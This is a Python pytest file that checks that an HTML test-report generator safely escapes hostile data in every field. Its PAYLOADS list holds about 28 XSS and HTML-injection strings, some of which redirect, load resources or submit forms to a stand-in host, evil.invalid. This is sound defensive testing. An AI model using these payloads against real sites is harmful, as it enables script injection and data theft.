"""Ten thousand strings that want to be more than text, in every place of a report that data can reach."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.conformance, pytest.mark.slow, pytest.mark.timeout(600)]

Look = Callable[[list[dict[str, Any]]], list[dict[str, Any]]]

SCENARIOS = 190
STRINGS = 10_000
# `@` becomes a mark of its own in each string; what calls `pwned` or asks evil.invalid for something has got through
PAYLOADS = (
    "<script>pwned('@')</script>",
    "</script><script>pwned('@')</script>",
    "<img src=x onerror=pwned('@')>",
    "<img src=https://evil.invalid/@.png>",
    "<svg/onload=pwned('@')>",
    "\"><svg onload=pwned('@')>",
    "'><iframe srcdoc='<script>parent.pwned(\"@\")</script>'>",
    "\" autofocus onfocus=pwned('@') x=\"",
    "' onmouseover='pwned(`@`)' style='position:fixed;inset:0",
    "javascript:pwned('@')",
    "</title><script>pwned('@')</script>",
    "</style><script>pwned('@')</script><style>@import 'https://evil.invalid/@.css';",
    "</pre></code></details></main><form action=https://evil.invalid/@><button autofocus>",
    "<base href=https://evil.invalid/@/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/@'>",
    "<link rel=stylesheet href=https://evil.invalid/@.css>",
    "<object data=https://evil.invalid/@></object><embed src=https://evil.invalid/@>",
    "<a href=\"javascript:pwned('@')\" id=top>@</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned('@')>",
    "--><script>pwned('@')</script><!--",
    "]]><script>pwned('@')</script>",
    "&lt;script&gt;pwned('@')&lt;/script&gt;",
    "{{ ''.__class__ }}{% raw %}<script>pwned('@')</script>",
    "\u202e<script>pwned('@')</script>\u2066\x1b[31m\x00",
    "<details open ontoggle=pwned('@')><summary>@",
    "<template><script>pwned('@')</script></template><noscript><p title=\"</noscript><img src=x onerror=pwned('@')>\">",
    "../../../etc/@?<script>pwned('@')</script>#\"><b>",
    "<dialog open id=keys>@</dialog><p id=find class=filter>",
)

# What only data could have brought into a page: our own pages have none of it.
_FOREIGN = r"""({
  marks: [...new Set(document.documentElement.textContent.match(/mk\d{5}x/g) ?? [])],
  foreign: [...document.querySelectorAll(`img, iframe, object, embed, base, math, template, form:not(.filter),
    dialog:not([aria-labelledby]), script:not([src$='report.js']), link:not([href$='report.css']), style, meta[http-equiv=refresh],
    [style]`)].map((one) => one.outerHTML.slice(0, 200)),
  handlers: [...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames()).filter((name) => /^on/i.test(name)),
  links: [...document.querySelectorAll("[href], [src], [data-to]")]
    .flatMap((one) => ["href", "src", "data-to"].map((name) => one.getAttribute(name)))
    .filter((target) => target && !/^(#[\w.-]+|(\.\.\/)*(html\/)?[\w.-]+\.(html|css|js|jsonl)(#[\w.-]+)?)$/.test(target)) })"""


@pytest.fixture(scope="module")
def report(report_of: Callable[[Any], Path]) -> Path:
    """The report of a run in which every text is hostile."""
    return report_of(_journal())


def test_no_string_does_anything_and_every_string_is_shown(look: Look, report: Path) -> None:
    """With policies switched off, no script of the data's runs, nothing is asked for outside, no dialog opens; each string is shown."""
    pages = [report / "index.html", *sorted((report / "html").glob("*.html"))]
    found = look([{"urls": [page.as_uri() for page in pages], "obey": False, "open": True, "read": _FOREIGN}])[0]

    assert len(pages) == SCENARIOS + 1
    assert [url for url in found["requests"] if not url.startswith("file:")] == []
    assert found["dialogs"] + found["called"] + found["complaints"] == []
    assert [page["foreign"] + page["handlers"] + page["links"] for page in found["read"]] == [[]] * len(pages)
    shown = {mark for page in found["read"] for mark in page["marks"]}
    assert sorted({f"mk{n:05d}x" for n in range(STRINGS)} - shown) == []


def test_the_same_holds_for_the_one_file(look: Look, report: Path) -> None:
    """The file with all stories in it, which holds its own script and style sheet, lets nothing of the data's through either."""
    read = _FOREIGN.replace("script:not([src$='report.js'])", "body script ~ script, main script").replace("style,", "body style,")
    found = look([{"url": (report / "report.html").as_uri(), "obey": False, "open": True, "read": read}])[0]

    assert [url for url in found["requests"] if not url.startswith("file:")] == []
    assert found["dialogs"] + found["called"] + found["complaints"] == []
    assert found["read"][0]["foreign"] + found["read"][0]["handlers"] + found["read"][0]["links"] == []
    assert len(found["read"][0]["marks"]) > STRINGS * 0.9


def _journal() -> Iterator[dict[str, Any]]:
    """A run whose every text is hostile; at least :data:`STRINGS` of them."""
    numbers = count()

    def bad() -> str:
        number = next(numbers)
        return PAYLOADS[number % len(PAYLOADS)].replace("@", f"mk{number:05d}x")

    yield {
        "event": "RunStarted",
        "run": bad(),
        "started": bad(),
        "environment": bad(),
        "seed": 1,
        "planned": SCENARIOS,
        "parallel": 4,
        "version": bad(),
        "targets": {bad(): bad()},
        "limits": {bad(): bad()},
    }
    for number in range(SCENARIOS):
        yield from _scenario(number, bad)
    for _ in range(20):
        yield {"event": "Logged", "message": bad(), "level": "warning", "code": bad()}
    texts = {name: bad() for name in ("kind", "operation", "place", "expected", "got", "vendor")}
    yield {"event": "Drifted", "scenario": "", "step": "", "http": 200, **texts}
    yield {"event": "RunFinished", "took": 3.0, "counts": {"failed": SCENARIOS}, "problems": [bad(), bad()]}


def _scenario(number: int, bad: Callable[[], str]) -> Iterator[dict[str, Any]]:
    file = f"scenarios/{number}/{bad()}.scenario.yaml"
    key = {"scenario": f"{file}::{number}"}
    step = {**key, "step": "1"}
    yield {"event": "SourceRead", "file": file, "text": f"scenario: {bad()}\n{bad()}: {bad()}  # {bad()}\n# {bad()}\n"}
    yield {
        **key,
        "event": "ScenarioStarted",
        "id": str(number),
        "name": bad(),
        "description": bad(),
        "file": file,
        "line": 1,
        "vendor": bad(),
        "case": bad(),
        "tags": [bad(), bad()],
        "steps": 1,
        "actors": {bad(): bad()},
    }
    yield {
        **step,
        "event": "StepStarted",
        "type": bad(),
        "name": bad(),
        "line": 2,
        "actor": bad(),
        "parameters": {bad(): bad(), "list": [bad(), {bad(): bad()}]},
    }
    for _ in range(2):
        yield {
            **step,
            "event": "Exchanged",
            "method": bad(),
            "url": f"https://gws.example.com/{bad()}",
            "request_headers": {bad().replace(":", "_"): bad()},
            "request_body": bad(),
            "request_size": 10,
            "http": 200,
            "headers": {"Content-Type": bad()},
            "body": bad(),
            "size": 10,
            "actor": bad(),
            "error": bad(),
        }
    yield {**step, "event": "Notified", "name": bad(), "body": {bad(): bad()}}
    yield {**step, "event": "Saved", "name": bad(), "value": bad()}
    yield {**step, "event": "Created", "vendor": "gws", "kind": bad(), "id": bad(), "undo": bad()}
    yield {**step, "event": "Logged", "message": bad(), "level": "warning", "code": bad()}
    difference = {"path": bad(), "expected": bad(), "got": bad(), "hint": bad(), "line": 2, "column": 1}
    yield {**step, "event": "Checked", "passed": False, "checks": 1, "differences": [difference]}
    ended = {"outcome": "failed", "reason": bad(), "code": bad(), "hint": bad(), "refused": bad(), "states": [[bad(), 0.1]]}
    yield {**step, "event": "StepFinished", "took": 0.1, **ended}
    ended = {"outcome": "failed", "reason": "it did not hold", "line": 2, "left_open": [bad()], "step": "1"}
    yield {**key, "event": "ScenarioFinished", "took": 0.1, **ended}
